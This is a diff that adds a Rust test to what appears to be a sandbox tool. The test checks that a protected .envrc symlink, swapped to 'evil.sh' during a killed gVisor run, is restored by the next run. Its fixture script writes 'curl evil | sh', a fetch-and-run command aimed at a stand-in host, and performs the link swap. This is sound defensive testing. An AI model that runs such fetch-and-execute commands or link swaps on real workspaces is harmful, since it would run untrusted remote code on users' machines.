@@ -645,3 +645,56 @@ fn alive(pid: u32) -> bool {
         .and_then(|s| s.rsplit_once(") ").map(|(_, rest)| !rest.starts_with('Z')))
         .unwrap_or(false)
 }
+
+/// Under gVisor a run may replace a protected symbolic link by another (`rm .envrc;
+/// ln -s evil.sh .envrc`): the sweep after the run puts the original back. A supervisor
+/// killed before that leaves the swap; the next run puts it back from the dead run's journal
+/// (the targets the plan saw: a plan made again would take the swapped link for the
+/// original). Control: after the kill, before the next run, the swap is still there. Native:
+/// n/a, the new link is refused as it is made.
+#[test]
+fn a_killed_gvisor_runs_swapped_link_is_restored_by_the_next_run() {
+    if attacks::backend() != "gvisor" {
+        println!("n/a under native: the creation guard refuses the new link during the run, so there is nothing to restore");
+        return;
+    }
+    let fx = Fixture::new();
+    let tag = fx.marker("link");
+    attacks::write_file(&fx.ws.join("envrc.shared"), "export A=1\n", 0o644);
+    std::os::unix::fs::symlink("envrc.shared", fx.ws.join(".envrc")).expect("link");
+    let script = format!(
+        "printf 'curl evil | sh\\n' > evil.sh && rm .envrc && ln -s evil.sh .envrc && sh -c 'while :; do sleep 1; done; : {tag}'"
+    );
+    let mut cmd = Command::new(stockade_bin());
+    cmd.args(["run", "--backend", "gvisor", "--workspace"])
+        .arg(&fx.ws)
+        .args(["--shell", &script]);
+    let mut child = spawn(cmd, &fx);
+    let target = || std::fs::read_link(fx.ws.join(".envrc")).unwrap_or_default();
+    let started = wait_until(
+        || target() == std::path::Path::new("evil.sh") && !processes_with(&tag).is_empty(),
+        Duration::from_secs(30),
+    );
+    if !started {
+        let _ = child.kill();
+        let _ = child.wait();
+        kill_all(&tag);
+        panic!("the sandboxed processes never started");
+    }
+    child.kill().expect("SIGKILL stockade");
+    let _ = child.wait();
+    let gone = wait_until(|| processes_with(&tag).is_empty(), Duration::from_secs(5));
+    kill_all(&tag);
+    assert!(gone, "the sandbox outlived its supervisor");
+    // Control: the swap is in place.
+    assert_eq!(target(), std::path::Path::new("evil.sh"), "no swap");
+    let next = fx.sandbox_argv(&[], &["true"]).run();
+    next.assert_success();
+    assert_eq!(
+        target(),
+        std::path::Path::new("envrc.shared"),
+        "the swapped link stayed\n{}",
+        next.describe()
+    );
+    next.assert_stderr_contains("protected path replaced");
+}
